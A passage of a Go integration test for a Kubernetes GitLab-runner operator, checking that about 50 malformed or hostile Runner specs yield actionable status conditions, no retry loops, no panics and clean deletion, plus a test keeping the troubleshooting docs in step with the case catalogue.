	h.legacyFake.AllowRegistrationTokens(false)
	h.secret("pat", map[string]string{"access-token": h.admin})
	h.secret("tls-pat", map[string]string{"access-token": h.tlsAdmin})
	create(t, secret(h.other, "pat", map[string]string{"access-token": h.admin}))
	create(t, &gitlabv1beta1.GitLab{ObjectMeta: metav1.ObjectMeta{Name: "elsewhere", Namespace: h.other},
		Spec: gitlabv1beta1.GitLabSpec{URL: "https://gitlab.other.example.com"}})
	h.mgr = startManager(t, managerConfig{namespaces: []string{h.ns}})
	reconcilesBefore := reconcileTotal(t)
	logBefore := logs.Len()

	names := map[string]string{}
	for i, c := range cases {
		name := c.runner
		if name == "" {
			name = "h" + string(rune('a'+i/26)) + string(rune('a'+i%26))
		}
		names[c.name] = name
		if c.setup != nil {
			c.setup(h, name)
		}
		r := urlRunner(h.ns, name, h.fake.URL(), "pat")
		if c.spec != nil {
			c.spec(h, r)
		}
		err := k8s.Create(ctx, r)
		switch {
		case c.want.crd != "":
			t.Run(c.name, func(t *testing.T) {
				if err == nil {
					t.Fatalf("the API server accepted the Runner; want a validation error mentioning %q", c.want.crd)
				}
				if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), c.want.crd) {
					t.Fatalf("want an Invalid error mentioning %q, got: %v", c.want.crd, err)
				}
			})
		case err != nil && c.want.alsoCRD != "" && apierrors.IsInvalid(err) && strings.Contains(err.Error(), c.want.alsoCRD):
			names[c.name] = "" // answered by the API server
		case err != nil:
			t.Errorf("%s: the API server rejected a Runner the operator must handle: %v", c.name, err)
			names[c.name] = ""
		}
	}

	t.Run("answers", func(t *testing.T) {
		for _, c := range cases {
			if c.want.crd != "" || names[c.name] == "" {
				continue
			}
			t.Run(c.name, func(t *testing.T) {
				t.Parallel()
				name := names[c.name]
				if c.want.ok {
					r := waitRegistered(t, h.ns, name, 45*time.Second)
					if c.check != nil {
						c.check(t, h, r)
					}
					return
				}
				got := waitReason(t, h.ns, name, c.want.condType, c.want.reason, 45*time.Second)
				t.Logf("%s=%s %s: %s", got.Type, got.Status, got.Reason, got.Message)
				if got.Status != metav1.ConditionFalse {
					t.Errorf("%s is %s, want False", c.want.condType, got.Status)
				}
				for _, m := range c.want.msg {
					if !strings.Contains(got.Message, m) {
						t.Errorf("the %s message does not say %q: %s", c.want.condType, m, got.Message)
					}
				}
				if strings.Contains(strings.ToLower(got.Message), "internal error") {
					t.Errorf("the message is not actionable: %s", got.Message)
				}
			})
		}
	})

	t.Run("no-hot-loop", func(t *testing.T) {
		// Everything has settled (or is backing off). In a quiet window the
		// operator makes hardly any GitLab calls and reconciles, whatever
		// state the ~50 Runners are in.
		t0 := time.Now()
		r0 := reconcileTotal(t)
		time.Sleep(10 * time.Second)
		calls := h.mgr.calls.between(t0, time.Now())
		rec := reconcileTotal(t) - r0
		t.Logf("quiet window of 10s: %d GitLab calls, %d reconciles (%d since the catalogue started)", len(calls), rec, reconcileTotal(t)-reconcilesBefore)
		if len(calls) > 5 {
			t.Errorf("%d GitLab calls in a quiet 10 s window: something retries without backoff", len(calls))
		}
		if rec > 20 {
			t.Errorf("%d reconciles in a quiet 10 s window: something loops", rec)
		}
	})

	t.Run("no-panic", func(t *testing.T) {
		out := logs.Bytes()[logBefore:]
		if i := bytes.Index(out, []byte("Observed a panic")); i >= 0 {
			end := min(len(out), i+600)
			t.Errorf("the operator panicked on hostile input: %s", out[i:end])
		}
	})

	t.Run("all-deletable", func(t *testing.T) {
		var list gitlabv1beta1.RunnerList
		if err := k8s.List(ctx, &list, client.InNamespace(h.ns)); err != nil {
			t.Fatal(err)
		}
		for i := range list.Items {
			if err := k8s.Delete(ctx, &list.Items[i]); err != nil && !apierrors.IsNotFound(err) {
				t.Fatal(err)
			}
		}
		eventually(t, 60*time.Second, func(g gomega.Gomega) {
			var left gitlabv1beta1.RunnerList
			g.Expect(k8s.List(ctx, &left, client.InNamespace(h.ns))).To(gomega.Succeed())
			stuck := []string{}
			for _, r := range left.Items {
				msg := ""
				if c := condition(&r, gitlabv1beta1.ConditionRegistered); c != nil {
					msg = c.Reason + ": " + c.Message
				}
				stuck = append(stuck, r.Name+" ("+msg+")")
			}
			g.Expect(stuck).To(gomega.BeEmpty(), "Runners that cannot be deleted")
		})
		for _, f := range []*gitlabtest.Server{h.fake, h.tlsFake} {
			for _, r := range f.Runners() {
				if strings.HasPrefix(r.Description, h.ns+"/") || r.Description == unicode || r.Description == controlCh ||
					r.Description == evilTOML || r.Description == evilShell {
					t.Errorf("runner %d (%q) left in GitLab after its Runner was deleted", r.ID, r.Description)
				}
			}
		}
	})
	hygiene(t, []*gitlabtest.Server{h.fake, h.tlsFake, h.legacyFake}, h.tokens...)
}

// reconcileTotal sums controller-runtime's reconcile counter of the Runner
// controller over every manager in the process. Only meaningful while no
// other test's manager runs: the catalogue is not a parallel test.
func reconcileTotal(t *testing.T) int {
	t.Helper()
	mfs, err := ctrlmetrics.Registry.Gather()
	if err != nil {
		t.Fatal(err)
	}
	total := 0.0
	for _, mf := range mfs {
		if mf.GetName() != "controller_runtime_reconcile_total" {
			continue
		}
		for _, m := range mf.GetMetric() {
			if labelValue(m, "controller") == "runner" {
				total += m.GetCounter().GetValue()
			}
		}
	}
	return int(total)
}

func labelValue(m *dto.Metric, name string) string {
	for _, l := range m.GetLabel() {
		if l.GetName() == name {
			return l.GetValue()
		}
	}
	return ""
}

// TestTroubleshootingPageListsTheCatalogue keeps docs/troubleshooting.md and
// the catalogue in step: every case has a row, and the page has no row for a
// case that does not exist.
func TestTroubleshootingPageListsTheCatalogue(t *testing.T) {
	t.Parallel()
	root, err := controlplane.RepoRoot()
	if err != nil {
		t.Fatal(err)
	}
	page, err := os.ReadFile(filepath.Join(root, "docs", "troubleshooting.md"))
	if err != nil {
		t.Fatal(err)
	}
	rows := map[string]bool{}
	for _, m := range regexp.MustCompile("(?m)^\\| `([a-z0-9-]+)` \\|").FindAllSubmatch(page, -1) {
		rows[string(m[1])] = true
	}
	known := map[string]bool{}
	for _, c := range hostileCases() {
		known[c.name] = true
		if !rows[c.name] {
			t.Errorf("docs/troubleshooting.md has no row for catalogue case %q", c.name)
		}
	}
	for r := range rows {
		if !known[r] {
			t.Errorf("docs/troubleshooting.md has a row %q that is not in the catalogue test", r)
		}
	}
}
